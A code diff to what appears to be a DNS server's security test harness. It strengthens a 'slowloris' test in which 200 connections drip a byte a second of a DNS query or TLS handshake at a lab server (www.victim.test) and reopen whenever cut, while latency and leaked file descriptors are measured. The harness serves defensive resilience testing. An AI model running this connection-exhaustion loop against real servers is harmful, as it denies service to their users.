@@ -188,14 +188,19 @@ def crowd(stack, port, count, addresses=5, data=b""):
     return out
 
 
-def drip(sockets, data, seconds, done):
-    """A byte a second into each."""
-    at, end = 0, time.monotonic() + seconds
+def drip(stack, port, data, seconds, done):
+    """Two hundred connections, a byte a second into each, without ever coming to an end; who is cut comes again."""
+    slow, end = [[s, 0] for s in crowd(stack, port, 200)], time.monotonic() + seconds
     while time.monotonic() < end and not done.is_set():
-        for s in sockets:
-            with contextlib.suppress(OSError):
-                s.send(data[at % len(data):at % len(data) + 1])
-        at += 1
+        for one in slow:
+            try:
+                one[0].send(data[one[1] % len(data):one[1] % len(data) + 1])
+                one[1] += 1
+            except BlockingIOError:
+                pass
+            except OSError:
+                one[0].close()
+                one[:] = [(crowd(stack, port, 1) or one)[0], 0]
         done.wait(1)
 
 
@@ -217,12 +222,12 @@ def idle_connections(lab, kind):
     return {"tcp_ms": took, "L_udp": udp, "fds": leaked(lab)}
 
 
-@attack(48, "slowloris", "200 connections say a byte a second, of a question, a handshake or a request",
+@attack(48, "slowloris", "200 connections say a byte a second for a minute, of a question, a handshake or a request, and come again when cut",
         rule="a question that is not whole in time ends its connection, however busy that looks",
-        code="services/listen_conn.c", noisy=True, seconds=70,
+        code="services/listen_conn.c", noisy=True, seconds=130,
         server=["num-threads: 1", "incoming-num-tcp: 100"], limits={"tcp_ms": 3000, "L_udp": 5, "fds": 5},
         variants={"tcp": {"kind": "tcp"}, "tls": {"kind": "tls"}, "https": {"kind": "https"}})
-def slowloris(lab, kind, seconds=20):
+def slowloris(lab, kind, seconds=60):
     ports = Ports(lab, connections=100)
     lab.start()
     lab.ask("www.victim.test")
@@ -230,12 +235,11 @@ def slowloris(lab, kind, seconds=20):
     data = framed(e2e.query("www.victim.test").to_wire()) if kind == "tcp" else b"\x16\3\1\2\0\1\0\1\xfc\3\3" + b"r" * 500
     done = threading.Event()
     with contextlib.ExitStack() as stack:
-        slow = crowd(stack, port, 200)
-        dripping = threading.Thread(target=drip, args=(slow, data, seconds, done))
+        dripping = threading.Thread(target=drip, args=(stack, port, data, seconds, done))
         dripping.start()
         took, udp = [], []
-        for _ in range(4):
-            time.sleep(seconds / 8)
+        for _ in range(8):
+            time.sleep(seconds / 10)
             udp.append(udp_ms(lab))
             took.append(new_tcp_ms(lab, None if kind == "tcp" else ports.tls,
                                    context=None if kind == "tcp" else ports.context("dot")))
